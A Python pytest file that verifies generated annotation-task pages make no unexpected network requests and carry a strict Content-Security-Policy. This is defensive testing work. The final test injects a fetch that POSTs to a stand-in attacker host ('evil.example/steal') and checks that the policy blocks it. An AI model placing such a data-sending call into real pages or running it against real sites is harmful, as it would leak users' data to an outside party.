"""No page makes a network request, read from Chrome's performance log.

Choice (documented here and in README.md): a page may request
- the file:// page itself, and data: URLs;
- images, but only the URLs that the spec's data holds in `image` fields (sample
  rows, gold rows, guideline examples): the brief allows images from the data.
Every other request (script, style, font, fetch, beacon, frame, image from any
other address) fails the test, whether or not it would have succeeded. Image
requests are answered locally with a 1x1 PNG by the DevTools interception, so
the test is the same with or without a network.
"""

import csv
import re
import time

import pytest

import pagekit as pk
from plans import EXAMPLES, LOCALIZED

ALL = EXAMPLES + LOCALIZED + ["xss-corpus"]
PAGES = ["task.html", "preview.html", "guidelines.html"]


def _data_image_urls(spec) -> set[str]:
    image_fields = [f for f, d in spec.fields.items() if d.get("type") == "image"]
    rows = list(spec.sample_rows())
    gold = (spec.raw.get("quality") or {}).get("gold") or {}
    if gold.get("file"):
        with open(spec.path.parent / gold["file"], encoding="utf-8", newline="") as f:
            rows += list(csv.DictReader(f))
    rows += [e["item"] for e in (spec.raw.get("guidelines") or {}).get("examples") or []]
    return {str(r[f]) for r in rows for f in image_fields if r.get(f)}


def _open(browser, spec_id, page):
    if page == "task.html":
        return browser.open_task(spec_id)
    return browser.open(browser.bundle(spec_id) / page, wait_for_hitc=(page != "guidelines.html"))


@pytest.mark.parametrize("page", PAGES)
@pytest.mark.parametrize("spec_id", ALL)
def test_page_makes_no_network_request(browser, specs, spec_id, page):
    spec = specs[spec_id]
    url = _open(browser, spec_id, page)
    browser.wait(lambda: browser.js("return document.readyState") == "complete")
    time.sleep(0.3)  # let late requests (images, fonts) start
    requests = browser.requests()
    page_url = url.split("?")[0]
    documents = [r for r in requests if r["url"].split("?")[0] == page_url]
    assert documents, "the page itself was not in the performance log: the log is not working"
    allowed_images = _data_image_urls(spec)
    unexpected = [
        r for r in requests
        if r["url"].split("?")[0] != page_url
        and not r["url"].startswith("data:")
        and not (r["type"] == "Image" and r["url"] in allowed_images)
    ]
    assert unexpected == []
    blocked = [(r.method, r.url) for r in browser.cdp.intercepted if r.disposition == "blocked"]
    assert blocked == []
    assert browser.console_errors() == []


def _csp(html: str) -> dict[str, list[str]]:
    m = re.search(r'<meta\s+http-equiv="Content-Security-Policy"\s+content="([^"]*)"', html, re.I)
    assert m, "no Content-Security-Policy meta tag"
    out = {}
    for part in m.group(1).replace("&#39;", "'").replace("&apos;", "'").split(";"):
        words = part.split()
        if words:
            out[words[0].lower()] = words[1:]
    return out


@pytest.mark.parametrize("page", ["task.html", "preview.html"])
@pytest.mark.parametrize("spec_id", ALL)
def test_csp_forbids_requests_except_images_and_submission(bundle_root, specs, spec_id, page):
    spec = specs[spec_id]
    csp = _csp((bundle_root / spec_id / page).read_text(encoding="utf-8"))
    assert csp.get("default-src") == ["'none'"], csp
    for directive in ("script-src", "style-src", "connect-src", "frame-src", "font-src", "object-src"):
        for source in csp.get(directive, []):
            assert source not in ("*", "https:", "http:", "data:", "'unsafe-eval'"), f"{directive} {source}"
    assert "'unsafe-inline'" not in csp.get("script-src", []), "inline script must be allowed by hash only"
    targets = spec.raw.get("targets") or {}
    submit_urls = [t["submit_url"] for t in (targets.get("generic"), targets.get("prolific")) if t and t.get("submit_url")]
    origins = {re.match(r"https://[^/]+", u).group(0) for u in submit_urls}
    connect = [s.rstrip("/") for s in csp.get("connect-src", ["'none'"]) if s != "'none'"]
    # Only the configured submit URLs; the preview never sends, so 'none' is fine there too.
    assert set(connect) <= origins | set(submit_urls), connect
    if page == "task.html" and submit_urls:
        assert all(any(u.startswith(c) for c in connect) for u in submit_urls), connect


def test_csp_blocks_a_script_request_at_runtime(browser, specs):
    browser.open_task("grocery-search-relevance")
    outcome = browser.driver.execute_async_script(
        "const done = arguments[arguments.length - 1];"
        "fetch('https://evil.example/steal', {method: 'POST', body: 'x'}).then(() => done('sent'), () => done('blocked'));"
    )
    assert outcome == "blocked"
    assert not any("evil.example" in r.url for r in browser.cdp.intercepted), "the request got past the CSP"
    pk.items(browser)  # the page still works
